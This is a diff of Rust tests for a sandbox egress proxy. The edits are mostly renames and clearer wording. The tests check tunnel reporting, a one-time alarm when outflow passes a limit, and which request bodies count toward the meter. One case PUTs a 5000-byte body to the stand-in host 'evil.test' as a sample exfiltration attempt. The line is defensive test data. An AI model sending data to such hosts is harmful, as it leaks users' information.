@@ -1,4 +1,4 @@
-//! What leaves without being looked into: how much, for how long, and who notices when it is a lot.
+//! Tests of what is sent without inspection: how much, for how long, and the alarm when it is a lot.
 
 use std::net::SocketAddr;
 use std::time::Duration;
@@ -18,7 +18,7 @@ use crate::fixture::{
 use crate::http_client::{TestApi, post, request, send_and_read};
 use crate::scripted_host::{ScriptedHost, ok};
 
-/// A server that gives back what it is sent.
+/// Starts an echo server.
 async fn echo() -> (SocketAddr, AbortOnDropHandle<()>) {
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let address = listener.local_addr().unwrap();
@@ -35,14 +35,14 @@ async fn echo() -> (SocketAddr, AbortOnDropHandle<()>) {
 
 const FAR: &str = "far.test:7000";
 
-fn stage(address: SocketAddr, limit: Option<u64>) -> GatewayFixture {
+fn fixture(address: SocketAddr, limit: Option<u64>) -> GatewayFixture {
     let terms = ProxyGrant { outflow: OutflowMeter::new(limit, 0), ..ProxyGrant::from(allowing(&[FAR])) };
     GatewayFixture::open(terms, FakeResolver::new(&[]).with("far.test", address))
 }
 
-/// Opens a tunnel, sends so much through it and waits until it came back.
-async fn through(stage: &GatewayFixture, bytes: usize) -> TcpStream {
-    let mut stream = stage.dial().await;
+/// Opens a tunnel, sends this many bytes through it and waits until they came back.
+async fn through(fixture: &GatewayFixture, bytes: usize) -> TcpStream {
+    let mut stream = fixture.dial().await;
     stream.write_all(format!("CONNECT {FAR} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
     let mut yes = [0; 39];
     stream.read_exact(&mut yes).await.unwrap();
@@ -59,62 +59,63 @@ async fn send(stream: &mut TcpStream, bytes: usize) {
     read.unwrap();
 }
 
-fn tunnels(stage: &GatewayFixture) -> Vec<EgressTunnel> {
-    let tunnel = |told| if let EgressEvent::Tunnel(tunnelled) = told { Some(tunnelled) } else { None };
-    stage.events.all().into_iter().filter_map(tunnel).collect()
+fn tunnels(fixture: &GatewayFixture) -> Vec<EgressTunnel> {
+    let tunnel = |event| if let EgressEvent::Tunnel(tunnelled) = event { Some(tunnelled) } else { None };
+    fixture.events.all().into_iter().filter_map(tunnel).collect()
 }
 
-fn alarms(stage: &GatewayFixture) -> Vec<AlarmKind> {
-    stage.events.alarms().into_iter().map(|(what, _)| what).collect()
+fn alarms(fixture: &GatewayFixture) -> Vec<AlarmKind> {
+    fixture.events.alarms().into_iter().map(|(what, _)| what).collect()
 }
 
 #[tokio::test]
-async fn the_end_of_a_tunnel_is_told_however_it_ends() {
+async fn the_end_of_a_tunnel_is_reported_however_it_ends() {
     let (address, _serving) = echo().await;
     for end in ["the client hangs up", "the policy changes", "the sandbox ends"] {
-        let stage = stage(address, None);
-        let client = through(&stage, 300_000).await;
-        assert_eq!(tunnels(&stage), [], "{end}");
+        let fixture = fixture(address, None);
+        let client = through(&fixture, 300_000).await;
+        assert_eq!(tunnels(&fixture), [], "{end}");
         tokio::time::sleep(Duration::from_millis(30)).await;
-        let notes = stage.events.clone();
+        let notes = fixture.events.clone();
         match end {
             "the client hangs up" => drop(client),
-            "the policy changes" => stage.proxy.set_policy(allowing(&["other.test"])),
+            "the policy changes" => fixture.proxy.set_policy(allowing(&["other.test"])),
             _ => {
-                stage.proxy.close().await;
-                let told = notes.all();
-                assert!(told.iter().any(|told| matches!(told, EgressEvent::Tunnel(_))), "{end}: {told:?}");
+                fixture.proxy.close().await;
+                let events = notes.all();
+                assert!(events.iter().any(|event| matches!(event, EgressEvent::Tunnel(_))), "{end}: {events:?}");
                 continue;
             }
         }
-        wait_until("it is told", || tunnels(&stage).len() == 1).await;
-        let EgressTunnel { entry, host, port, sent, received, took } = tunnels(&stage).remove(0);
+        wait_until("it is reported", || tunnels(&fixture).len() == 1).await;
+        let EgressTunnel { entry, host, port, sent, received, took } = tunnels(&fixture).remove(0);
         assert_eq!((entry, host.as_str(), port), (EgressEntry::Connect, "far.test", 7000), "{end}");
         assert_eq!((sent, received), (300_000, 300_000), "{end}");
         assert!(took >= Duration::from_millis(30), "{end}: {took:?}");
     }
 }
 
-/// Without a limit the same goes unnoticed; with one it is noticed while it happens, once, and nothing is cut.
+/// Without a limit the same raises no alarm; with one it does while it happens, once, and nothing is cut.
 #[tokio::test]
-async fn much_is_noticed_once() {
+async fn exceeding_the_limit_raises_one_alarm() {
     let (address, _serving) = echo().await;
     for (limit, want) in [(None, vec![]), (Some(100_000), vec![AlarmKind::OutflowExceeded { limit: 100_000 }])] {
-        let stage = stage(address, limit);
-        drop(through(&stage, 60_000).await);
-        assert_eq!(alarms(&stage), []);
-        let mut second = through(&stage, 60_000).await;
-        assert_eq!(alarms(&stage), want, "before it ends");
+        let fixture = fixture(address, limit);
+        drop(through(&fixture, 60_000).await);
+        assert_eq!(alarms(&fixture), []);
+        let mut second = through(&fixture, 60_000).await;
+        assert_eq!(alarms(&fixture), want, "before it ends");
         send(&mut second, 200_000).await;
-        drop(through(&stage, 60_000).await);
-        wait_until("all have ended", || tunnels(&stage).len() == 2).await;
-        assert_eq!(alarms(&stage), want);
+        drop(through(&fixture, 60_000).await);
+        wait_until("all have ended", || tunnels(&fixture).len() == 2).await;
+        assert_eq!(alarms(&fixture), want);
     }
 }
 
-/// Requests count by what they carry, wherever it stands; calls of models are the budget's business, free ones are not.
+/// Requests count by what they contain, in any part; model calls are limited by the budget and do not count, but free
+/// calls do.
 #[tokio::test]
-async fn what_counts() {
+async fn request_bodies_count_and_paid_calls_do_not() {
     let server = FakeModelServer::builder()
         .script(FakeModelScript::for_all_calls([ScriptedTurn::text("ok")]))
         .expect_key(REAL)
@@ -130,7 +131,7 @@ async fn what_counts() {
         outflow: outflow.clone(),
         ..ProxyGrant::from(allowing(&["far.test:80"]))
     };
-    let stage = GatewayFixture::open(terms, FakeResolver::new(&[]).with("far.test", far.address));
+    let fixture = GatewayFixture::open(terms, FakeResolver::new(&[]).with("far.test", far.address));
     let key = TestApi::Messages.key(key.phantom());
     let body = TestApi::Messages.body(MODEL, &"x".repeat(5000), Some(9), false).to_string();
     let long = "y".repeat(5000);
@@ -144,7 +145,7 @@ async fn what_counts() {
         (put("http://evil.test/", "evil.test", &[], long.as_bytes()), 0, 0),
     ] {
         let before = outflow.sent();
-        let got = send_and_read(stage.proxy_address, &request).await;
+        let got = send_and_read(fixture.proxy_address, &request).await;
         let counted = outflow.sent() - before;
         assert!((at_least..=at_most).contains(&counted), "{counted} {} {}", got.head, got.text());
     }
